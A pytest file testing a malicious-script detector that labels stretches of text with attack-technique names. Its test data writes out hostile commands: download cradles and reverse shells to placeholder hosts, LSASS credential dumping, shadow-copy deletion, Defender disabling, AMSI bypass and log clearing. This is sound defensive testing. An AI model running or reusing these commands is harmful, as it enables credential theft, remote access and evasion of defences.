"""Marks: telling stretches of scripts are named, everyday ones are not, and any text costs linear time."""

import base64

import pytest
from hypothesis import given
from hypothesis import strategies as st

from cybervault.domain.attack import technique
from cybervault.payloads.marks import EXCERPT_MAX, marks_in

EICAR = "X5O!P%@AP[4\\PZX54(P^)7CC)7}$" + "EICAR-STANDARD-" + "ANTIVIRUS-TEST-FILE!$H+H*"
BLOB = base64.b64encode(bytes(range(200))).decode()

TELLING = [
    (EICAR, "eicar_test_file"),
    ("powershell -nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0A", "encoded_command"),
    ("IEX (New-Object Net.WebClient).DownloadString('http://evil.example/a')", "download_cradle"),
    ("iwr http://evil.example/a.ps1 | iex", "download_cradle"),
    ("iex (iwr http://evil.example)", "download_cradle"),
    ("curl -fsSL http://evil.example/x.sh | sudo bash", "download_cradle"),
    ("bitsadmin /transfer j http://evil.example/a a.exe", "download_cradle"),
    (f"x = '{BLOB}'", "obfuscated_strings"),
    ("a = Chr(104) & Chr(116) & Chr(116) & Chr(112) & Chr(58)", "obfuscated_strings"),
    ("[char]104+[char]116+[char]116+[char]112+[char]58", "obfuscated_strings"),
    ("String.fromCharCode(104,116,116,112,58,47,47,101,118)", "obfuscated_strings"),
    ("\\x90" * 40, "obfuscated_strings"),
    ("vssadmin.exe delete shadows /all /quiet", "shadow_copy_deletion"),
    ("bcdedit /set {default} recoveryenabled no", "shadow_copy_deletion"),
    ("sekurlsa::logonpasswords", "credential_dump"),
    ("rundll32 comsvcs.dll, MiniDump 600 a.dmp full", "credential_dump"),
    ("procdump64 -ma lsass.exe a.dmp", "credential_dump"),
    ("bash -i >& /dev/tcp/203.0.113.9/4444 0>&1", "reverse_shell"),
    ("nc 203.0.113.9 4444 -e /bin/sh", "reverse_shell"),
    ("Set-MpPreference -DisableRealtimeMonitoring $true", "disable_defender"),
    ("Set-MpPreference -DisableRealtimeMonitoring 1", "disable_defender"),
    ("[Ref].Assembly.GetType('System.Management.Automation.AmsiUtils')", "scan_interface_bypass"),
    ("Sub AutoOpen()\nEnd Sub", "macro_autoopen"),
    ("Private Sub Document_Open()", "macro_autoopen"),
    ("reg add HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run /v a /d b", "run_key"),
    ("schtasks /create /tn a /tr b /sc minute", "scheduled_task"),
    ("wevtutil cl Security", "event_log_clearing"),
    ("mshta http://evil.example/a.hta", "script_proxy"),
    ("./miner -o stratum+tcp://pool.example:3333", "crypto_miner"),
]
EVERYDAY = [
    "",
    "powershell -File report.ps1 -Encoding UTF8",
    "curl -o page.html https://example.com/ | tee log",
    "e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855",
    "Get-MpPreference; Set-MpPreference -DisableRealtimeMonitoring $false",
    "vssadmin list shadows",
    "String.fromCharCode(65)",
    "The sub opened the document.",
]


@pytest.mark.parametrize(("text", "name"), TELLING)
def test_a_telling_stretch_is_named_with_its_place(text: str, name: str) -> None:
    found = {mark.name: mark for mark in marks_in(f"# first line\n{text}\n# last line\n")}
    assert list(found) == [name]
    assert 0 < len(found[name].excerpt) <= EXCERPT_MAX


@pytest.mark.parametrize("text", EVERYDAY)
def test_everyday_text_bears_no_mark(text: str) -> None:
    assert marks_in(text) == ()


def test_every_technique_is_in_the_table() -> None:
    ids = {mark.technique_id for text, _ in TELLING for mark in marks_in(text)}
    assert all(technique(id_) for id_ in ids if id_ is not None)
    assert len(ids) > 10


def test_a_long_excerpt_is_cut_and_holds_one_printable_line() -> None:
    (mark,) = marks_in(f"x = '{BLOB}'")
    assert mark.excerpt == f"{BLOB[:79]}…"
    (mark,) = marks_in("powershell \x1b[31m -enc SQBFAFgAIAAoAE4AZQB3AC0A")
    assert mark.excerpt.isprintable()


@given(st.text())
def test_any_text_is_read(text: str) -> None:
    assert all(len(mark.excerpt) <= EXCERPT_MAX for mark in marks_in(text))


@pytest.mark.parametrize(
    "shape",
    [
        "powershell ",
        "a" * 199 + " ",
        "chr(1)&",
        "\\x41",
        "curl ",
        "iwr -",
        "/dev/tcp/",
        " ",
        "mkfifo |",
        "wmic shadowcopy ",
    ],
)
def test_a_long_text_of_almost_a_mark_is_read_to_its_end(shape: str) -> None:
    """Quadratic patterns would not come back here within the time that a test run has."""
    text = shape * (2**18 // len(shape)) + "\nwevtutil cl Security"
    assert "event_log_clearing" in {mark.name for mark in marks_in(text)}
